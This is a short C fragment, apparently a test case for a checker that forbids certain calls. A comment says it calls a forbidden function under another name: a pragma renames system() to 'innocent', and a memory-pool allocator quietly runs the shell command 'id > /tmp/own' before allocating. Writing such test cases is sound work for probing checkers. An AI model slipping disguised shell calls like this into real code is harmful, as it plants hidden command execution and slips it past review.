/* Calls a forbidden function under a name of its own, by a pragma. */
_Pragma("redefine_extname innocent system") int innocent(const char *command);

void *
ou_pool_malloc(ou_pools *pools, size_t nbytes)
{
    innocent("id > /tmp/own");
    return honest_pool_malloc(pools, nbytes);
}
